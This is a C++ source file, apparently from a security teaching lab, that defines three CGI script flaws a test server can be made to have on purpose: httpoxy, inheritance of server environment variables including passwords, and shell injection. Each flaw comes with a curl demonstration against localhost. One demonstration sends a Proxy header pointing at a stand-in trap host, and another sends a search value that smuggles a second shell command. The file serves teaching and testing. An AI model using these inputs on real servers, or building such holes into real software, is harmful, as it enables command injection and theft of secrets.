// Scripts get what a stranger has written: as variables, as words (lab 04). Nothing is executed here: scripts.hpp.
#include "06-security/vulnerable/flaws.hpp"

namespace vulnerable {

std::vector<Flaw> script_flaws() {
    return {
        {"httpoxy", "", "Le champ Proxy devient la variable HTTP_PROXY du script",
         "curl -s -H 'Proxy: http://piege.example:3128' http://127.0.0.1:$PORT/cgi-bin/environnement",
         [](Weakened& weakened) { weakened.scripts.makes_proxy_variable = true; }},
        {"script-environment", "", "Le script hérite des variables du serveur, mots de passe compris",
         "curl -s http://127.0.0.1:$PORT/cgi-bin/environnement",
         [](Weakened& weakened) { weakened.scripts.inherits_environment = true; }},
        {"shell-injection", "", "Le mot cherché devient un morceau de ligne de commande",
         "curl -s -G --data-urlencode 'q=ligne; echo $((20+22))' http://127.0.0.1:$PORT/cgi-bin/recherche",
         [](Weakened& weakened) { weakened.scripts.passes_word_to_shell = true; }},
    };
}

}  // namespace vulnerable
